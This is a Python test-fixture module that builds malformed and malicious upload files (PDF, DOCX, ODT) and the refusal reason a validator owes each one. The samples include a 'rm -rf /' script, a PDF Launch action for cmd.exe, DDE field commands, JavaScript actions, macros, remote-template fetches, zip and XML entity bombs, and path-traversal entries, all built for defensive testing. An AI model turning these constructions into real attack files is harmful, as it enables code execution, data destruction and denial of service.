"""Files that people should not send, made here one by one: what each is called, what it holds, and the refusal that it must meet."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

import pikepdf

from config.demo.pieces import small_pdf
from files.refused import Reason
from requests_app import piece_templates

CONTENT_TYPES = "[Content_Types].xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EXTERNAL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
BILLION = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'


@dataclass(frozen=True)
class Case:
    """One bad file."""

    name: str
    content: bytes
    reason: Reason


@functools.cache
def a_pdf() -> bytes:
    """A good PDF of one page."""
    return small_pdf(["Protocole", "3.1 Données requises"])


@functools.cache
def a_docx() -> bytes:
    """A good DOCX."""
    return piece_templates.document("summary", title="Projet", reference="GU-2026-000001")


@functools.cache
def an_odt(content: str = "<text:p>Protocole en ODT</text:p>", mimetype: str = "application/vnd.oasis.opendocument.text") -> bytes:
    """A good ODT, or one with another body or another type."""
    names = "".join(
        f' xmlns:{prefix}="{address}"'
        for prefix, address in {
            "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
            "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
            "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
            "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
            "xlink": "http://www.w3.org/1999/xlink",
        }.items()
    )
    body = f"<office:document-content{names}><office:body>{content}</office:body></office:document-content>"
    manifest = '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    return packed({"mimetype": mimetype.encode(), "content.xml": body.encode(), "META-INF/manifest.xml": manifest.encode()})


def packed(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of these parts."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, method)
    return held.getvalue()


def parts_of(archive: bytes) -> dict[str, bytes]:
    """The parts of an archive."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def docx_with(more: Mapping[str, bytes] | None = None, **changed: tuple[bytes, bytes]) -> bytes:
    """The good DOCX with other parts, or with something replaced in a part (`document=(old, new)`)."""
    parts = parts_of(a_docx())
    names = {"types": CONTENT_TYPES, "document": "word/document.xml", "relations": "word/_rels/document.xml.rels"}
    for key, (old, new) in changed.items():
        assert old in parts[names[key]]
        parts[names[key]] = parts[names[key]].replace(old, new, 1)
    return packed(parts | dict(more or {}))


def with_relation(kind: str, target: str) -> bytes:
    """The good DOCX with a relation to something elsewhere."""
    relation = f'<Relationship Id="rId99" Type="{EXTERNAL}{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return docx_with(relations=(b"</Relationships>", relation.encode()))


def with_field(*instructions: str) -> bytes:
    """The good DOCX with a field whose instruction is cut in these pieces."""
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions)
    return docx_with(document=(b"<w:body>", f"<w:body><w:p>{runs}</w:p>".encode()))


def pdf_with(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    """The good PDF, changed."""
    held = io.BytesIO()
    with pikepdf.open(io.BytesIO(a_pdf())) as pdf:
        change(pdf)
        pdf.save(held, **options)
    return held.getvalue()


def _opens(action: Mapping[str, object]) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(action))

    return change


def _on_page(pdf: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary({"/S": pikepdf.Name("/JavaScript"), "/JS": "app.alert(1)"})
    pdf.pages[0].AA = pikepdf.Dictionary({"/O": script})


def _indirect_script(pdf: pikepdf.Pdf) -> None:
    """An action whose kind stands in an object of its own, and that only another action names."""
    kind = pdf.make_indirect(pikepdf.Name("/JavaScript"))
    script = pdf.make_indirect(pikepdf.Dictionary({"/S": kind}))
    pdf.Root.OpenAction = pikepdf.Dictionary({"/S": pikepdf.Name("/GoTo"), "/Next": script})


def _attaches(name: str, content: bytes) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, content, filename=name)

    return change


def _is_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary({"/Fields": pikepdf.Array(), "/XFA": pdf.make_stream(b"<xdp/>")})


def _shows_media(pdf: pikepdf.Pdf) -> None:
    media = pikepdf.Dictionary({"/Type": pikepdf.Name("/Annot"), "/Subtype": pikepdf.Name("/RichMedia")})
    pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(media)])


def _locked(owner: str, user: str) -> bytes:
    return pdf_with(lambda pdf: None, encryption=pikepdf.Encryption(owner=owner, user=user))


def _many_names(count: int) -> bytes:
    """An archive whose table of contents is very long although it holds nothing."""
    entry = struct.Struct("<4s4B4HL2L5H2L")
    table = b"".join(
        entry.pack(b"PK\x01\x02", 20, 0, 20, 0, 0, 0, 0, 33, 0, 0, 0, 6, 0, 0, 0, 0, 0, 0) + b"%06d" % number for number in range(count)
    )
    local = b"PK\x03\x04" + bytes(26)
    return local + table + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, min(count, 0xFFFE), min(count, 0xFFFE), len(table), len(local), 0)


def _overlapping() -> bytes:
    """Two entries of the table that name the same bytes: little to store, much to unpack."""
    made = bytearray(packed({CONTENT_TYPES: b"a" * 100, "word/document.xml": b"a" * 100}))
    first = made.index(b"PK\x01\x02")
    second = made.index(b"PK\x01\x02", first + 4)
    made[second + 42 : second + 46] = made[first + 42 : first + 46]
    return bytes(made)


def _lying() -> bytes:
    """A part that says it is a hundred bytes long, and is ten million."""
    return docx_with({"word/media/a.bin": b"a" * 10_000_000}).replace(struct.pack("<L", 10_000_000), struct.pack("<L", 100))


def _locked_part() -> bytes:
    """The good DOCX, its parts marked as locked by a password."""
    made = bytearray(a_docx())
    place = -1
    while (place := made.find(b"PK\x01\x02", place + 1)) >= 0:
        made[place + 8] |= 1
    return bytes(made)


def _broken_sum() -> bytes:
    """The good DOCX, one byte of its text changed."""
    made = bytearray(packed(parts_of(a_docx()), zipfile.ZIP_STORED))
    made[made.index(b"<w:body>") + 3] ^= 1
    return bytes(made)


def _prefixed_table() -> bytes:
    """An archive that stands behind a program, as self-extracting ones do, without the program's mark."""
    return b"PK\x03\x04" + bytes(400) + a_docx()


def _scans(head: bytes) -> bytes:
    return head + zlib.compress(bytes(5000))


def _unsorted() -> list[Case]:
    """What is no document at all."""
    return [
        Case("vide.pdf", b"", Reason.EMPTY),
        Case("programme.pdf", b"MZ\x90\x00" + bytes(400), Reason.PROGRAM),
        Case("programme.docx", b"\x7fELF\x02\x01\x01" + bytes(400), Reason.PROGRAM),
        Case("script.pdf", b"#!/bin/sh\nrm -rf /\n", Reason.PROGRAM),
        Case("raccourci.pdf", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80), Reason.PROGRAM),
        Case("photo.pdf", _scans(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), Reason.WRONG_TYPE),
        Case("photo.odt", _scans(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"), Reason.WRONG_TYPE),
        Case("page.pdf", b"<!DOCTYPE html><script>alert(1)</script>", Reason.WRONG_TYPE),
        Case("texte.pdf", "Résumé du protocole, en latin-1".encode("latin-1"), Reason.WRONG_TYPE),
        Case("utf16.docx", "Résumé".encode("utf-16"), Reason.WRONG_TYPE),
        Case("riche.docx", b"{\\rtf1\\ansi Protocole}", Reason.WRONG_TYPE),
        Case("zeros.pdf", bytes(2000), Reason.WRONG_TYPE),
        Case("archive.pdf", packed({"a.txt": b"a"}), Reason.ARCHIVE),
        Case("archive.docx", b"7z\xbc\xaf\x27\x1c" + bytes(100), Reason.ARCHIVE),
        Case("archive.odt", b"\x1f\x8b\x08\x00" + bytes(100), Reason.ARCHIVE),
        Case("archive-rar.pdf", b"Rar!\x1a\x07\x01\x00" + bytes(100), Reason.ARCHIVE),
        Case("ancien.docx", OLE + bytes(2000) + "WordDocument".encode("utf-16-le"), Reason.OLD_OFFICE),
        Case("protege.docx", OLE + bytes(2000) + "EncryptedPackage".encode("utf-16-le"), Reason.ENCRYPTED),
    ]


def _pdfs() -> list[Case]:
    """PDF that are broken, locked, or do something."""
    script = {"/S": pikepdf.Name("/JavaScript"), "/JS": "app.alert(1)"}
    launch = {"/S": pikepdf.Name("/Launch"), "/F": "cmd.exe"}
    other = {"/S": pikepdf.Name("/GoToE"), "/T": pikepdf.Dictionary({"/R": pikepdf.Name("/C")})}
    return [
        Case("coupe.pdf", a_pdf()[:300], Reason.PDF_DAMAGED),
        Case("bruit.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"%%EOF", Reason.PDF_DAMAGED),
        Case("sans-page.pdf", b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", Reason.PDF_DAMAGED),
        Case("mot-de-passe.pdf", _locked("maître", "secret"), Reason.PDF_PROTECTED),
        Case("restreint.pdf", _locked("maître", ""), Reason.PDF_PROTECTED),
        Case("script.pdf", pdf_with(_opens(script)), Reason.PDF_SCRIPT),
        Case("script-de-page.pdf", pdf_with(_on_page), Reason.PDF_SCRIPT),
        Case("script-cache.pdf", pdf_with(_opens(script), object_stream_mode=pikepdf.ObjectStreamMode.generate), Reason.PDF_SCRIPT),
        Case("lance.pdf", pdf_with(_opens(launch)), Reason.PDF_LAUNCH),
        Case("ouvre.pdf", pdf_with(_opens(other)), Reason.PDF_LAUNCH),
        Case("film.pdf", pdf_with(_shows_media), Reason.PDF_LAUNCH),
        Case("formulaire.pdf", pdf_with(_is_form), Reason.PDF_FORM),
        Case("porte-exe.pdf", pdf_with(_attaches("facture.exe", b"MZ" + bytes(50))), Reason.PDF_EMBEDDED),
        Case("script-indirect.pdf", pdf_with(_indirect_script), Reason.PDF_SCRIPT),
        Case("porte-exe-deguise.pdf", pdf_with(_attaches("facture.xml", b"MZ" + bytes(50))), Reason.PDF_EMBEDDED),
        Case("decale.pdf", b"garbage\n" + a_pdf(), Reason.DISGUISED),
        Case("page-et.pdf", a_pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1), Reason.DISGUISED),
        Case("pdf-et-zip.pdf", a_pdf() + packed({"a.exe": b"MZ"}), Reason.APPENDED),
        Case("pdf-et-page.pdf", a_pdf() + b"<html><script>alert(1)</script></html>", Reason.APPENDED),
        Case("zip-cache.pdf", a_pdf() + packed({"a": b"a"})[:-2] + b"\x06\x00%%EOF\n", Reason.APPENDED),
    ]


#: Names of parts are the same in any letter case, and the main part stands wherever the list of types says.
FAR_TEMPLATE = (
    f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    f'Type="{EXTERNAL}attachedTemplate" Target="http://exemple.example/a.dotm" TargetMode="External"/></Relationships>'
).encode()
FIELD_ELSEWHERE = (
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
    b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:body></w:document>"
)


def _documents() -> list[Case]:
    """DOCX and ODT that run, fetch, hide or blow up."""
    event = '<script:event-listener script:language="basic" xlink:href="x"/>'
    return [
        Case("coupe.docx", a_docx()[:5000], Reason.DAMAGED),
        Case("somme.docx", _broken_sum(), Reason.DAMAGED),
        Case("taille-fausse.docx", _lying(), Reason.DAMAGED),
        Case("xml-casse.docx", docx_with(document=(b"<w:body>", b"<w:body><w:p>")), Reason.DAMAGED),
        Case("encodage.docx", docx_with({"word/notes.xml": b'<?xml version="1.0" encoding="UTF-8"?><a>\xe9</a>'}), Reason.DAMAGED),
        Case("parties-closes.docx", _locked_part(), Reason.ENCRYPTED),
        Case("macro.docx", docx_with({"word/vbaProject.bin": OLE}), Reason.MACROS),
        Case("macro-type.docx", docx_with(types=(b"document.main+xml", b"document.macroEnabled.main+xml")), Reason.MACROS),
        Case("modele.docx", docx_with(types=(b"document.main+xml", b"template.main+xml")), Reason.WRONG_TYPE),
        Case("modele-lointain-majuscules.docx", docx_with({"word/_rels/settings.xml.RELS": FAR_TEMPLATE}), Reason.FETCHES),
        Case("champ-ailleurs.docx", docx_with({"w/doc.XML": FIELD_ELSEWHERE}), Reason.COMMANDS),
        Case("modele-lointain.docx", with_relation("attachedTemplate", "http://exemple.example/a.dotm"), Reason.FETCHES),
        Case("image-lointaine.docx", with_relation("image", "http://exemple.example/a.png"), Reason.FETCHES),
        Case("objet-lointain.docx", with_relation("oleObject", "file:///a"), Reason.FETCHES),
        Case("commande.docx", with_field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), Reason.COMMANDS),
        Case("commande-coupee.docx", with_field("DD", "EAU", "TO cmd"), Reason.COMMANDS),
        Case("objet.docx", docx_with({"word/embeddings/oleObject1.bin": OLE + bytes(64)}), Reason.EMBEDDED),
        Case("porte-script.docx", docx_with({"word/media/a.js": b"alert(1)"}), Reason.EMBEDDED),
        Case("porte-archive.docx", docx_with({"word/media/a.png": packed({"b": b"b"})}), Reason.NESTED),
        Case("poupees.docx", docx_with({"word/embeddings/a.xlsx": packed({"b.zip": packed({"c": b"c"})})}), Reason.NESTED),
        Case("bombe.docx", docx_with({"word/media/a.bin": bytes(60_000_000)}), Reason.BOMB),
        Case("noms.docx", _many_names(30_000), Reason.BOMB),
        Case("recouvert.docx", _overlapping(), Reason.BOMB),
        Case("entites.docx", docx_with({"word/settings2.xml": BILLION}), Reason.ENTITIES),
        Case("sort.docx", docx_with({"../../etc/cron.d/a": b"a"}), Reason.PATHS),
        Case("absolu.docx", docx_with({"/etc/passwd": b"a"}), Reason.PATHS),
        Case("suivi.docx", a_docx() + b"<html><script>alert(1)</script></html>", Reason.APPENDED),
        Case("precede.docx", _prefixed_table(), Reason.DISGUISED),
        Case("macro.odt", packed(parts_of(an_odt()) | {"Basic/Standard/Module1.xml": b"<a/>"}), Reason.MACROS),
        Case("evenement.odt", an_odt(event), Reason.MACROS),
        Case("commande.odt", an_odt("<text:dde-connection-decl/>"), Reason.COMMANDS),
        Case("image-lointaine.odt", an_odt('<draw:image xlink:href="http://exemple.example/a.png"/>'), Reason.FETCHES),
        Case("tableur.odt", an_odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"), Reason.WRONG_TYPE),
        Case("protege.odt", packed(parts_of(an_odt()) | {"META-INF/manifest.xml": b"<m><encryption-data/></m>"}), Reason.ENCRYPTED),
        Case("entites.odt", packed(parts_of(an_odt()) | {"content.xml": BILLION}), Reason.ENTITIES),
    ]


@functools.cache
def corpus() -> tuple[Case, ...]:
    """Every bad file."""
    return (*_unsorted(), *_pdfs(), *_documents())
